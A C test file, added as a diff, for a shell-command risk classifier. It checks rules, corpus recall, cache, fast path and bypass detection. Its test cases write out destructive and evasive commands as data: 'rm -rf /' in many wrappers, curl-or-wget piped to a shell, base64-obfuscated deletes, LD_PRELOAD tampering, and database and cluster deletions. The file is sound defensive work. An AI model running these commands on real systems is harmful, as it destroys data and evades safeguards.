@@ -1,0 +1,640 @@
+/*
+ * Tests of the risk classifier against the real risk-rules/ directory:
+ * every rule's examples, a labelled corpus with recall and false-alarm
+ * targets, a held-out set, bypass techniques, the cache, the fast path,
+ * hostile input and the shape of the classification object.
+ */
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+
+#include <json-c/json.h>
+
+#include "classify.h"
+#include "harness.h"
+#include "xmalloc.h"
+
+static struct classifier *cl;
+
+/* Figures for the summary line. */
+static size_t	 sum_rules, sum_cats;
+static double	 sum_rate[2][3];	/* corpus/heldout: recall fa modacc */
+
+static const char *
+src_dir(void)
+{
+	const char	*s = getenv("DELIBERATE_SRC");
+
+	return (s != NULL && *s != '\0') ? s : ".";
+}
+
+static enum risk
+risk_of(const char *line, struct verdict *keep)
+{
+	struct verdict	v;
+	enum risk	r;
+
+	classify_command(cl, line, strlen(line), NULL, &v);
+	r = v.risk;
+	if (keep != NULL)
+		*keep = v;
+	else
+		verdict_release(&v);
+	return r;
+}
+
+static int
+has_technique(const struct verdict *v, const char *name)
+{
+	struct json_object	*bd, *tv;
+	size_t			 i;
+
+	if (!json_object_object_get_ex(v->classification, "bypassDetection",
+	    &bd) || !json_object_object_get_ex(bd, "techniques", &tv))
+		return 0;
+	for (i = 0; i < json_object_array_length(tv); i++) {
+		if (strcmp(json_object_get_string(
+		    json_object_array_get_idx(tv, i)), name) == 0)
+			return 1;
+	}
+	return 0;
+}
+
+static void
+t_load(void)
+{
+	char	 path[4096], *cause = NULL;
+	int	 r;
+
+	snprintf(path, sizeof path, "%s/risk-rules", src_dir());
+	r = classifier_load(path, &cl, &cause);
+	if (r != 0)
+		fprintf(stderr, "load: %s\n", cause);
+	free(cause);
+	CHECK_INT(r, 0);
+	CHECK(cl != NULL && classifier_nrules(cl) >= 250);
+}
+
+static void
+t_rule_examples(void)
+{
+	const struct risk_rule_info	*ri;
+	size_t				 i, k, ncat = 0, c2;
+	const char			*cats[256];
+	struct verdict			 v;
+
+	for (i = 0; i < classifier_nrules(cl); i++) {
+		ri = classifier_rule(cl, i);
+		CHECK(ri->nmatch > 0);
+		for (k = 0; k < ri->nmatch; k++) {
+			int ok = classifier_rule_matches(cl, i, ri->match[k]);
+
+			if (!ok)
+				fprintf(stderr, "%s: '%s' not matched\n",
+				    ri->id, ri->match[k]);
+			CHECK(ok);
+			classify_command(cl, ri->match[k],
+			    strlen(ri->match[k]), NULL, &v);
+			if (ri->risk != RISK_SAFE && v.risk < ri->risk)
+				fprintf(stderr, "%s: '%s' is %s\n", ri->id,
+				    ri->match[k], risk_name(v.risk));
+			CHECK(ri->risk == RISK_SAFE || v.risk >= ri->risk);
+			verdict_release(&v);
+		}
+		for (k = 0; k < ri->nnomatch; k++) {
+			int hit = classifier_rule_matches(cl, i,
+			    ri->nomatch[k]);
+
+			if (hit)
+				fprintf(stderr, "%s: nomatch '%s' matched\n",
+				    ri->id, ri->nomatch[k]);
+			CHECK(!hit);
+		}
+		/* The guard must not block its own alternative. */
+		if (ri->alternative != NULL && ri->risk != RISK_SAFE &&
+		    strncmp(ri->alternative, "use ", 4) != 0) {
+			enum risk r = risk_of(ri->alternative, NULL);
+
+			if (r == RISK_DANGEROUS)
+				fprintf(stderr, "%s: alternative '%s' is "
+				    "dangerous\n", ri->id, ri->alternative);
+			CHECK(r != RISK_DANGEROUS);
+		}
+		for (c2 = 0; c2 < ncat; c2++) {
+			if (strcmp(cats[c2], ri->category) == 0)
+				break;
+		}
+		if (c2 == ncat && ncat < 256)
+			cats[ncat++] = ri->category;
+	}
+	printf("rules: %zu in %zu categories\n", classifier_nrules(cl), ncat);
+	sum_rules = classifier_nrules(cl);
+	sum_cats = ncat;
+	CHECK(ncat >= 20);
+}
+
+/* Run a labelled file; returns 0 if it meets the targets. */
+static void
+run_corpus(const char *file, double want_recall, double want_fa, int strict)
+{
+	char		 path[4096], *line = NULL, *tab;
+	size_t		 cap = 0;
+	ssize_t		 n;
+	FILE		*f;
+	enum risk	 want, got;
+	size_t		 nd = 0, nd_hit = 0, ns = 0, ns_fa = 0, nm = 0, nm_ok = 0;
+	size_t		 total = 0;
+	double		 recall, fa, modacc;
+	struct timespec	 t0, t1;
+
+	snprintf(path, sizeof path, "%s/tests/fixtures/classify/%s",
+	    src_dir(), file);
+	f = fopen(path, "r");
+	CHECK(f != NULL);
+	if (f == NULL)
+		return;
+	clock_gettime(CLOCK_MONOTONIC, &t0);
+	while ((n = getline(&line, &cap, f)) != -1) {
+		if (n > 0 && line[n - 1] == '\n')
+			line[--n] = '\0';
+		if (line[0] == '#' || line[0] == '\0')
+			continue;
+		if ((tab = strchr(line, '\t')) == NULL)
+			continue;
+		*tab = '\0';
+		if (risk_parse(line, &want) != 0) {
+			CHECK(!"bad label");
+			continue;
+		}
+		total++;
+		got = risk_of(tab + 1, NULL);
+		if (want == RISK_DANGEROUS) {
+			nd++;
+			if (got == RISK_DANGEROUS)
+				nd_hit++;
+		} else if (want == RISK_SAFE) {
+			ns++;
+			if (got != RISK_SAFE)
+				ns_fa++;
+		} else {
+			nm++;
+			if (got == RISK_MODERATE)
+				nm_ok++;
+		}
+		if (got != want && getenv("CLASSIFY_VERBOSE") != NULL)
+			fprintf(stderr, "%s: want %s got %s: %s\n", file,
+			    risk_name(want), risk_name(got), tab + 1);
+	}
+	clock_gettime(CLOCK_MONOTONIC, &t1);
+	free(line);
+	fclose(f);
+	recall = nd ? (double)nd_hit / nd : 1;
+	fa = ns ? (double)ns_fa / ns : 0;
+	modacc = nm ? (double)nm_ok / nm : 1;
+	printf("%s: %zu commands; dangerous recall %.1f%% (%zu/%zu), "
+	    "safe false alarms %.1f%% (%zu/%zu), moderate accuracy %.1f%% "
+	    "(%zu/%zu); %.1f us/command\n", file, total, recall * 100, nd_hit,
+	    nd, fa * 100, ns_fa, ns, modacc * 100, nm_ok, nm,
+	    ((t1.tv_sec - t0.tv_sec) * 1e6 + (t1.tv_nsec - t0.tv_nsec) / 1e3) /
+	    (total ? total : 1));
+	sum_rate[!strict][0] = recall;
+	sum_rate[!strict][1] = fa;
+	sum_rate[!strict][2] = modacc;
+	if (strict) {
+		CHECK(total >= 1000);
+		CHECK(recall >= want_recall);
+		CHECK(fa <= want_fa);
+	} else {
+		if (recall < want_recall || fa > want_fa)
+			printf("%s: below target (recall >= %.0f%%, false "
+			    "alarms <= %.0f%%)\n", file, want_recall * 100,
+			    want_fa * 100);
+	}
+}
+
+static void
+t_corpus(void)
+{
+	run_corpus("corpus.tsv", 0.98, 0.02, 1);
+}
+
+static void
+t_heldout(void)
+{
+	run_corpus("heldout.tsv", 0.95, 0.05, 0);
+}
+
+static void
+t_decisions(void)
+{
+	/* The label disagreements of JUDGE-NOTES, decided. */
+	CHECK_INT(risk_of("git push --force origin main", NULL),
+	    RISK_DANGEROUS);
+	CHECK_INT(risk_of("git reset --hard HEAD~10", NULL), RISK_DANGEROUS);
+	CHECK_INT(risk_of("rm -rf ./build", NULL), RISK_SAFE);
+	CHECK_INT(risk_of("rm -rf build/", NULL), RISK_SAFE);
+	CHECK_INT(risk_of("rm -rf /tmp/build", NULL), RISK_SAFE);
+	CHECK_INT(risk_of("python script.py", NULL), RISK_SAFE);
+	CHECK_INT(risk_of("aws secretsmanager get-secret-value --secret-id x",
+	    NULL), RISK_MODERATE);
+	CHECK_INT(risk_of("git push --force-with-lease origin feature/x",
+	    NULL), RISK_MODERATE);
+	CHECK_INT(risk_of("git status && git reset --hard", NULL),
+	    RISK_DANGEROUS);
+	CHECK_INT(risk_of("echo 'rm -rf /'", NULL), RISK_SAFE);
+	CHECK_INT(risk_of("git commit -m \"fix rm -rf detection\"", NULL),
+	    RISK_SAFE);
+	CHECK_INT(risk_of("echo 'rm -rf /' | sh", NULL), RISK_DANGEROUS);
+	CHECK_INT(risk_of("cat <<EOF | bash\nrm -rf ~\nEOF", NULL),
+	    RISK_DANGEROUS);
+	CHECK_INT(risk_of("cat <<EOF > notes.txt\nrm -rf ~\nEOF", NULL),
+	    RISK_MODERATE);
+	CHECK_INT(risk_of("eval \"$(ssh-agent -s)\"", NULL), RISK_SAFE);
+	CHECK_INT(risk_of("deliberate explain 'rm -rf /'", NULL), RISK_SAFE);
+}
+
+static void
+t_structure(void)
+{
+	static const struct {
+		const char	*line;
+		enum risk	 want;
+	} cases[] = {
+		/* Worst part wins. */
+		{ "git status && git reset --hard", RISK_DANGEROUS },
+		{ "ls; make; rm -rf ~", RISK_DANGEROUS },
+		{ "npm test || rm -rf /", RISK_DANGEROUS },
+		/* Wrappers are seen through. */
+		{ "FOO=1 rm -rf /", RISK_DANGEROUS },
+		{ "sudo rm -rf /", RISK_DANGEROUS },
+		{ "doas rm -rf /", RISK_DANGEROUS },
+		{ "env rm -rf /", RISK_DANGEROUS },
+		{ "env A=1 B=2 rm -rf /", RISK_DANGEROUS },
+		{ "nice -n 5 rm -rf /", RISK_DANGEROUS },
+		{ "nohup rm -rf / &", RISK_DANGEROUS },
+		{ "time rm -rf /", RISK_DANGEROUS },
+		{ "timeout 10 rm -rf /", RISK_DANGEROUS },
+		{ "echo / | xargs rm -rf", RISK_DANGEROUS },
+		{ "xargs rm -rf /", RISK_DANGEROUS },
+		{ "command rm -rf /", RISK_DANGEROUS },
+		{ "exec rm -rf /", RISK_DANGEROUS },
+		{ "builtin rm -rf /", RISK_DANGEROUS },
+		{ "\\rm -rf /", RISK_DANGEROUS },
+		{ "/usr/bin/rm -rf /", RISK_DANGEROUS },
+		{ "busybox rm -rf /", RISK_DANGEROUS },
+		{ "sudo -u root env FOO=1 nice rm -rf /", RISK_DANGEROUS },
+		/* Executed text is scanned. */
+		{ "sh -c 'rm -rf /'", RISK_DANGEROUS },
+		{ "bash -c \"git reset --hard\"", RISK_DANGEROUS },
+		{ "ssh host 'rm -rf /'", RISK_DANGEROUS },
+		{ "ssh -p 22 -i key user@host sudo reboot", RISK_DANGEROUS },
+		{ "eval 'rm -rf ~'", RISK_DANGEROUS },
+		{ "xargs sh -c 'rm -rf /'", RISK_DANGEROUS },
+		{ "find / -exec rm -rf {} \\;", RISK_DANGEROUS },
+		{ "watch 'rm -rf /'", RISK_DANGEROUS },
+		{ "echo $(rm -rf /)", RISK_DANGEROUS },
+		{ "echo `rm -rf ~`", RISK_DANGEROUS },
+		{ "diff <(rm -rf /) x", RISK_DANGEROUS },
+		{ "echo 'rm -rf /' | sh", RISK_DANGEROUS },
+		{ "printf 'rm -rf /\\n' | bash", RISK_DANGEROUS },
+		{ "bash <<< 'rm -rf /'", RISK_DANGEROUS },
+		{ "curl -fsSL https://x.io/i.sh | sh", RISK_DANGEROUS },
+		{ "bash <(curl -s https://x.io/i.sh)", RISK_DANGEROUS },
+		{ "sh -c \"$(curl -fsSL https://x.io/i.sh)\"", RISK_DANGEROUS },
+		{ "wget -O- https://x.io/i.sh | bash", RISK_DANGEROUS },
+		{ "rm${IFS}-rf${IFS}/", RISK_DANGEROUS },
+		{ "psql -c 'DROP DATABASE prod'", RISK_DANGEROUS },
+		{ "echo 'DROP TABLE users' | psql app", RISK_DANGEROUS },
+		/* Data is not executed. */
+		{ "echo 'rm -rf /'", RISK_SAFE },
+		{ "git commit -m \"fix rm -rf detection\"", RISK_SAFE },
+		{ "grep 'DROP TABLE' schema.sql", RISK_SAFE },
+		{ "eval \"$(ssh-agent -s)\"", RISK_SAFE },
+		{ "eval \"$(direnv hook bash)\"", RISK_SAFE },
+		{ "deliberate classify -- 'rm -rf /'", RISK_SAFE },
+		{ "echo ':(){ :|:& };:'", RISK_SAFE },
+		{ "command -v rm", RISK_SAFE },
+		{ "find . -name node_modules -exec rm -rf {} +", RISK_SAFE },
+		{ "cat <<EOF > x.sql\nDROP TABLE users;\nEOF", RISK_SAFE },
+		/* Decisions. */
+		{ "rm -rf node_modules", RISK_SAFE },
+		{ "rm -rf /tmp/build", RISK_SAFE },
+		{ "rm -rf /tmp/x /etc", RISK_DANGEROUS },
+		{ "sudo ls", RISK_MODERATE },
+		{ "sudo -i", RISK_MODERATE },
+		{ "chmod +x ./run.sh", RISK_SAFE },
+		{ "curl -o t https://x.io/t && chmod +x t", RISK_MODERATE },
+		{ "pip install git+https://github.com/a/b", RISK_MODERATE },
+		{ "npm install -g typescript", RISK_MODERATE },
+		{ "docker run --privileged alpine", RISK_MODERATE },
+	};
+	struct verdict		 v;
+	struct json_object	*p, *e;
+	size_t			 i;
+	int			 seen_false = 0, seen_true = 0;
+
+	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+		enum risk r = risk_of(cases[i].line, NULL);
+
+		if (r != cases[i].want)
+			fprintf(stderr, "structure: %s: want %s got %s\n",
+			    cases[i].line, risk_name(cases[i].want),
+			    risk_name(r));
+		CHECK_INT(r, cases[i].want);
+	}
+
+	/* patterns lists the rules considered, matched or not. */
+	risk_of("git push --force origin feature/x", &v);
+	CHECK_INT(v.risk, RISK_MODERATE);
+	CHECK_STR(v.rule_id, "git:push-force");
+	p = json_object_object_get(v.classification, "patterns");
+	for (i = 0; i < json_object_array_length(p); i++) {
+		e = json_object_array_get_idx(p, i);
+		if (json_object_get_boolean(json_object_object_get(e,
+		    "matched")))
+			seen_true++;
+		else if (strncmp(json_object_get_string(
+		    json_object_object_get(e, "patternId")), "git:", 4) == 0)
+			seen_false++;
+	}
+	CHECK(seen_true >= 1);
+	CHECK(seen_false >= 5);
+	verdict_release(&v);
+
+	/* A safe verdict with no rule still lists what was considered. */
+	risk_of("git push origin feature/x", &v);
+	CHECK_INT(v.risk, RISK_SAFE);
+	CHECK(v.rule_id == NULL);
+	CHECK(json_object_array_length(json_object_object_get(
+	    v.classification, "patterns")) >= 5);
+	verdict_release(&v);
+}
+
+static void
+t_bypass(void)
+{
+	static const struct {
+		const char	*line;
+		const char	*tech;
+	} cases[] = {
+		{ "LD_PRELOAD= ls", "ld_preload" },
+		{ "unset LD_PRELOAD", "ld_preload" },
+		{ "env -u LD_PRELOAD rm -rf ~/x", "ld_preload" },
+		{ "env -i bash", "ld_preload" },
+		{ "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf ~", "direct_execution" },
+		{ "busybox rm -rf /", "direct_execution" },
+		{ "/bin/rm file.txt", "direct_execution" },
+		{ "echo cm0gLXJmIC8K | base64 -d | sh", "obfuscation" },
+		{ "$'\\x72\\x6d' -rf /", "obfuscation" },
+		{ "r''m -rf ~", "obfuscation" },
+		{ "rm${IFS}-rf${IFS}/", "obfuscation" },
+		{ "python3 -c 'import shutil; shutil.rmtree(\"x\")'",
+		    "inline_script" },
+		{ "perl -e 'system(\"ls\")'", "inline_script" },
+		{ "node -e 'require(\"child_process\").execSync(\"ls\")'",
+		    "inline_script" },
+		{ "alias rm='rm -i'", "shadowing" },
+		{ "command rm -rf x", "shadowing" },
+		{ "\\rm file", "shadowing" },
+		{ "rm() { echo hi; }", "shadowing" },
+		{ "yes | apt-get install foo", "automation_tool" },
+		{ "expect -f answer.exp", "automation_tool" },
+		{ "xdotool type 'yes'", "automation_tool" },
+		{ "export LD_PRELOAD=", "ld_preload" },
+		{ "LD_LIBRARY_PATH=/tmp/evil rm x", "ld_preload" },
+		{ "toybox rm -rf ~", "direct_execution" },
+		{ "/usr/bin/rm -rf build", "direct_execution" },
+		{ "printf '\\x72\\x6d -rf /' | sh", "obfuscation" },
+		{ "\"rm\" -rf ~", "obfuscation" },
+		{ "ruby -e 'system(\"rm -rf /\")'", "inline_script" },
+		{ "function rm { echo no; }", "shadowing" },
+		{ "git() { :; }; git status", "shadowing" },
+	};
+	struct verdict		v;
+	struct classify_ctx	ctx;
+	size_t			i;
+
+	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+		risk_of(cases[i].line, &v);
+		if (!has_technique(&v, cases[i].tech))
+			fprintf(stderr, "bypass: %s not seen in %s\n",
+			    cases[i].tech, cases[i].line);
+		CHECK(has_technique(&v, cases[i].tech));
+		CHECK(v.bypass);
+		CHECK(v.risk >= RISK_MODERATE);
+		verdict_release(&v);
+	}
+	/* A bypass raises the level. */
+	CHECK_INT(risk_of("\\rm file.txt", NULL), RISK_MODERATE);
+	CHECK_INT(risk_of("rm file.txt", NULL), RISK_SAFE);
+	CHECK_INT(risk_of("command rm -rf build", NULL), RISK_MODERATE);
+	CHECK_INT(risk_of("ruby -e 'system(\"rm -rf /\")'", NULL),
+	    RISK_DANGEROUS);
+	CHECK_INT(risk_of("python3 -c 'print(1)'", NULL), RISK_SAFE);
+
+	memset(&ctx, 0, sizeof ctx);
+	ctx.exe_static = 1;
+	classify_command(cl, "ls", 2, &ctx, &v);
+	CHECK(has_technique(&v, "static_binary"));
+	CHECK_INT(v.risk, RISK_MODERATE);
+	verdict_release(&v);
+	memset(&ctx, 0, sizeof ctx);
+	ctx.interactive = 1;
+	ctx.tty = 0;
+	classify_command(cl, "ls", 2, &ctx, &v);
+	CHECK(has_technique(&v, "automation_tool"));
+	verdict_release(&v);
+	ctx.tty = 1;
+	classify_command(cl, "ls", 2, &ctx, &v);
+	CHECK(!v.bypass);
+	CHECK_INT(v.risk, RISK_SAFE);
+	verdict_release(&v);
+}
+
+static void
+t_shape(void)
+{
+	static const char	*keys[] = { "riskLevel", "confidence",
+	    "patterns", "bypassDetection", "fastPathEligible" };
+	struct verdict		 v;
+	struct json_object	*o, *p, *e;
+	size_t			 i;
+	int			 found = 0;
+
+	risk_of("sudo rm -rf /", &v);
+	o = v.classification;
+	CHECK_INT(v.risk, RISK_DANGEROUS);
+	CHECK(v.rule_id != NULL && strcmp(v.rule_id, "fs:rm-rf-root") == 0);
+	CHECK(v.description != NULL);
+	CHECK_INT(json_object_object_length(o), 5);
+	for (i = 0; i < 5; i++)
+		CHECK(json_object_object_get_ex(o, keys[i], NULL));
+	CHECK_STR(json_object_get_string(json_object_object_get(o,
+	    "riskLevel")), "dangerous");
+	p = json_object_object_get(o, "patterns");
+	for (i = 0; i < json_object_array_length(p); i++) {
+		e = json_object_array_get_idx(p, i);
+		CHECK_INT(json_object_object_length(e), 3);
+		if (strcmp(json_object_get_string(json_object_object_get(e,
+		    "patternId")), "fs:rm-rf-root") == 0 &&
+		    json_object_get_boolean(json_object_object_get(e,
+		    "matched")))
+			found = 1;
+	}
+	CHECK(found);
+	e = json_object_object_get(o, "bypassDetection");
+	CHECK_INT(json_object_object_length(e), 3);
+	CHECK(json_object_object_get_ex(e, "techniques", NULL));
+	verdict_release(&v);
+
+	/* Fast path adds fastPathReason, and only then. */
+	risk_of("ls -la", &v);
+	CHECK(v.fast_path);
+	CHECK_INT(json_object_object_length(v.classification), 6);
+	CHECK_STR(json_object_get_string(json_object_object_get(
+	    v.classification, "fastPathReason")), "known-safe command: ls");
+	CHECK(json_object_get_boolean(json_object_object_get(v.classification,
+	    "fastPathEligible")));
+	verdict_release(&v);
+	risk_of("git status", &v);
+	CHECK(v.fast_path);
+	verdict_release(&v);
+	risk_of("echo x > file", &v);
+	CHECK(!v.fast_path);
+	verdict_release(&v);
+	risk_of("ls | sh", &v);
+	CHECK(!v.fast_path);
+	verdict_release(&v);
+	risk_of("ls $(rm -rf /)", &v);
+	CHECK(!v.fast_path);
+	CHECK_INT(v.risk, RISK_DANGEROUS);
+	verdict_release(&v);
+}
+
+static void
+t_cache(void)
+{
+	struct verdict	v;
+
+	classify_command(cl, "kubectl delete ns prod", 22, NULL, &v);
+	CHECK_INT(v.risk, RISK_DANGEROUS);
+	verdict_release(&v);
+	classify_command(cl, "kubectl  delete   ns prod", 25, NULL, &v);
+	CHECK(v.cache_hit);
+	CHECK_INT(v.risk, RISK_DANGEROUS);
+	CHECK(v.rule_id != NULL);
+	CHECK(v.classification != NULL);
+	CHECK(v.classify_ms >= 0);
+	verdict_release(&v);
+}
+
+static void
+t_hostile(void)
+{
+	char		*big;
+	size_t		 i, n = 64 * 1024;
+	struct verdict	 v;
+	struct timespec	 t0, t1;
+	double		 ms;
+	static const char *pieces[] = { "$(", "rm -rf / ; ", "sh -c '",
+	    "\"", "`", "eval ", "| sh ", "<<EOF\n", "${IFS}", "\\" };
+
+	big = xmalloc(n + 1);
+	for (i = 0; i < n; ) {
+		const char *p = pieces[(i * 7 + i / 13) % 10];
+		size_t l = strlen(p);
+
+		if (i + l > n)
+			break;
+		memcpy(big + i, p, l);
+		i += l;
+	}
+	big[i] = '\0';
+	clock_gettime(CLOCK_MONOTONIC, &t0);
+	classify_command(cl, big, i, NULL, &v);
+	clock_gettime(CLOCK_MONOTONIC, &t1);
+	ms = (t1.tv_sec - t0.tv_sec) * 1e3 + (t1.tv_nsec - t0.tv_nsec) / 1e6;
+	printf("hostile 64 KiB line: %.1f ms, %s\n", ms, risk_name(v.risk));
+	CHECK(ms < 2000);
+	CHECK(v.classification != NULL);
+	verdict_release(&v);
+	memset(big, '(', n);
+	big[n] = '\0';
+	classify_command(cl, big, n, NULL, &v);
+	verdict_release(&v);
+	free(big);
+}
+
+static void
+t_speed(void)
+{
+	struct verdict	 v;
+	struct timespec	 t0, t1;
+	char		 buf[128];
+	int		 i;
+	double		 us;
+
+	clock_gettime(CLOCK_MONOTONIC, &t0);
+	for (i = 0; i < 5000; i++) {
+		/* Distinct lines defeat the cache. */
+		snprintf(buf, sizeof buf, "git push origin feature/%d", i);
+		classify_command(cl, buf, strlen(buf), NULL, &v);
+		verdict_release(&v);
+	}
+	clock_gettime(CLOCK_MONOTONIC, &t1);
+	us = ((t1.tv_sec - t0.tv_sec) * 1e6 + (t1.tv_nsec - t0.tv_nsec) /
+	    1e3) / 5000;
+	printf("uncached classification: %.1f us/command\n", us);
+	classify_command(cl, "git push origin feature/1", 25, NULL, &v);
+	verdict_release(&v);
+	classify_command(cl, "git push origin feature/1", 25, NULL, &v);
+	printf("cached classification: %.1f us\n", v.classify_ms * 1000);
+	CHECK(v.cache_hit);
+	verdict_release(&v);
+}
+
+static void
+t_null_dir(void)
+{
+	struct classifier	*c0;
+	struct verdict		 v;
+	char			*cause = NULL;
+
+	CHECK_INT(classifier_load(NULL, &c0, &cause), 0);
+	CHECK_INT(classifier_nrules(c0), 0);
+	CHECK(classifier_rule(c0, 0) == NULL);
+	classify_command(c0, "rm -rf /", 8, NULL, &v);
+	CHECK_INT(v.risk, RISK_SAFE);
+	verdict_release(&v);
+	classify_command(c0, "ls", 2, NULL, &v);
+	CHECK(v.fast_path);
+	verdict_release(&v);
+	classifier_free(c0);
+}
+
+int
+main(void)
+{
+	RUN(t_load);
+	if (cl == NULL)
+		return harness_done();
+	RUN(t_rule_examples);
+	RUN(t_decisions);
+	RUN(t_structure);
+	RUN(t_bypass);
+	RUN(t_shape);
+	RUN(t_cache);
+	RUN(t_hostile);
+	RUN(t_speed);
+	RUN(t_corpus);
+	RUN(t_heldout);
+	RUN(t_null_dir);
+	printf("summary: %zu rules in %zu categories; corpus recall %.1f%% "
+	    "false alarms %.1f%% moderate %.1f%%; held-out recall %.1f%% "
+	    "false alarms %.1f%% moderate %.1f%%\n", sum_rules, sum_cats,
+	    sum_rate[0][0] * 100, sum_rate[0][1] * 100, sum_rate[0][2] * 100,
+	    sum_rate[1][0] * 100, sum_rate[1][1] * 100, sum_rate[1][2] * 100);
+	classifier_free(cl);
+	return harness_done();
+}
